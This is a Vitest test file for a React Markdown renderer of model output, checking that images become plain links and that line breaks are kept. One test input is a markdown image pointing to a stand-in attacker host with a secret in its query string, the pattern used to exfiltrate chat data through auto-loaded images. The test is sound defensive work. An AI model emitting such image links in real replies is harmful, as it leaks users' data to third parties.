/** Markdown from the model: an image is a link to it, never an <img> the browser would fetch. */
import { describe, expect, it } from 'vitest'
import { renderToStaticMarkup } from 'react-dom/server'
import { Markdown } from './markdown'

describe('Markdown', () => {
  it('renders an image from another host as a link, not an <img>', () => {
    const html = renderToStaticMarkup(<Markdown text={'Look: ![chart](https://attacker.example/?d=secret) and ![local](/a.png)'} />)
    expect(html).not.toContain('<img')
    expect(html).toContain('href="https://attacker.example/?d=secret"')
    expect(html).toContain('[image: chart]')
    expect(html).toContain('[image: local]') // not a link: only http(s) URLs become links
    expect(html).not.toContain('href="/a.png"')
  })

  it('keeps a single line break a line break, as a chat reader expects of a poem or a list a model writes that way', () => {
    const html = renderToStaticMarkup(<Markdown text={'Roses are red,\nviolets are blue.\n\nA new paragraph.'} />)
    expect(html).toContain('Roses are red,<br/>')
    expect(html.match(/<p>/g)).toHaveLength(2)
    // Inside code a newline is the code's own: no <br> there.
    expect(renderToStaticMarkup(<Markdown text={'```\na\nb\n```'} />)).not.toContain('<br')
  })
})
